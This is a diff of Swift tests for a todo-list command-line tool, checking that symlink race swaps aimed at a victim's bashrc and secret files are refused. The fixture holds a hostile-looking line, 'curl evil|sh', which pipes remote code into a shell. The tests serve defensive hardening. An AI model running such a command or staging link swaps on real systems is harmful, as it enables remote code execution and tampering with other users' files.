@@ -9,14 +9,16 @@ import Testing
 /// its `revert`. And the default place of a file is judged by the real folder, however the
 /// configuration spells it.
 @Suite struct LinkRaceTests {
-  /// A shared folder `shared` (the todo folder) and the victim's files in `victim`; another
-  /// user holds the folder's lock and, `delay` seconds later, runs `swap` in it and lets go.
-  private func race(_ swap: String, delay: Double = 2.5) -> String {
+  /// A shared folder `shared` (the todo folder) and the victim's files in `victim`, then
+  /// `before`; another user holds the folder's lock and, `delay` seconds later, runs `swap` in
+  /// it and lets go.
+  private func race(_ swap: String, before: String = "", delay: Double = 2.5) -> String {
     """
     mkdir -p shared victim; printf '# victim bashrc\\n' > victim/bashrc
     printf 'secret line\\nsecond secret\\n' > victim/secret; chmod 600 victim/secret
     printf 'task one\\ncurl evil|sh #\\n' > shared/todo.txt
     export TODO_DIR=$PWD/shared
+    \(before)
     flock -x shared sh -c 'sleep \(delay); cd shared && \(swap)' &
     until ! flock -n shared true; do sleep 0.02; done
 
@@ -62,24 +64,35 @@ import Testing
         "TODO: $HOME/shared/todo.txt is a link to $HOME/victim/secret, outside") == true)
   }
 
-  /// report.txt, and a `mv` destination checked before the lock, swapped while waiting.
-  @Test func reportAndMoveDestinationSwappedWhileWaitingAreRefused() throws {
+  /// report.txt swapped for a link while `todo report` waits.
+  @Test func reportFileSwappedWhileWaitingIsRefused() throws {
     let sandbox = try Sandbox()
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("ln -s ../victim/bashrc report.txt") + """
         todo report; echo "status $?"
         wait
-        printf 'other\\n' > shared/other.txt
-        flock -x shared sh -c 'sleep 2.5; cd shared && rm other.txt && ln -s ../victim/bashrc other.txt' &
-        until ! flock -n shared true; do sleep 0.02; done
-        todo -f mv 1 other.txt; echo "status $?"
-        wait
         cat victim/bashrc shared/todo.txt
         """)
-    #expect(
-      result.stdout == ["status 1", "status 1", "# victim bashrc", "task one", "curl evil|sh #"])
-    #expect(result.stderr.filter { $0.contains("outside the todo folder") }.count == 2)
+    #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
+    #expect(result.stderr.last?.hasPrefix("TODO: $HOME/shared/report.txt is a link to") == true)
+  }
+
+  /// A `mv` destination, checked before the lock, swapped for a link while `todo mv` waits.
+  @Test func moveDestinationSwappedWhileWaitingIsRefused() throws {
+    let sandbox = try Sandbox()
+    defer { sandbox.remove() }
+    let result = try sandbox.run(
+      race(
+        "rm other.txt && ln -s ../victim/bashrc other.txt",
+        before: "printf 'other\\n' > shared/other.txt")
+          + """
+          todo -f mv 1 other.txt; echo "status $?"
+          wait
+          cat victim/bashrc shared/todo.txt
+          """)
+    #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
+    #expect(result.stderr.last?.hasPrefix("TODO: $HOME/shared/other.txt is a link to") == true)
   }
 
   /// `revert` after a `mv` whose destination became a link to a file of the same length:
@@ -142,6 +155,36 @@ import Testing
         path: appended, before: 6, after: 13, device: UInt64(st.st_dev),
         inode: UInt64(st.st_ino)))
     #expect(try String(contentsOfFile: appended, encoding: .utf8) == "first\n")
+  }
+
+  /// A killed `mv` leaves its journal; before the next command recovers, the destination
+  /// becomes a link to a file of the appended length: the recovery does not cut it.
+  @Test func recoveryDoesNotCutAFileThroughASwappedDestination() throws {
+    let sandbox = try Sandbox()
+    defer { sandbox.remove() }
+    let session = EditSessionTests()
+    let dir = sandbox.directory.path
+    try session.write(sandbox, "todo.txt", "move me\nstay\n")
+    try session.write(sandbox, "other.txt", "x\n")
+    let journal =
+      Backups(for: dir + "/todo.txt", environment: sandbox.environment).directory + "/"
+      + EditSession.journalName
+    // The rename of todo.txt fails after the append to other.txt: the journal, as a killed
+    // command would leave it, is kept aside before the failure removes it.
+    let faults = FaultPlan()
+    faults.failRename = 1
+    var kept: Data?
+    faults.beforeFinalCheck = { kept = try? Data(contentsOf: URL(fileURLWithPath: journal)) }
+    #expect(try session.run(sandbox, ["-f", "mv", "1", "other.txt"], faults: faults).status == 1)
+    try #require(kept).write(to: URL(fileURLWithPath: journal))
+    // other.txt grew from 2 to 10 bytes; a file of 10 bytes elsewhere takes its place.
+    try session.write(sandbox, "victim", "victim 12\n")
+    unlink(dir + "/other.txt")
+    symlink(dir + "/victim", dir + "/other.txt")
+    let result = try session.run(sandbox, ["pri", "2", "A"])
+    #expect(result.status == 0)
+    #expect(session.bytes(sandbox, "victim") == Array("victim 12\n".utf8))
+    #expect(session.bytes(sandbox, "todo.txt") == Array("move me\n(A) stay\n".utf8))
   }
 
   /// A configuration that spells the default place differently (`$TODO_DIR/` and
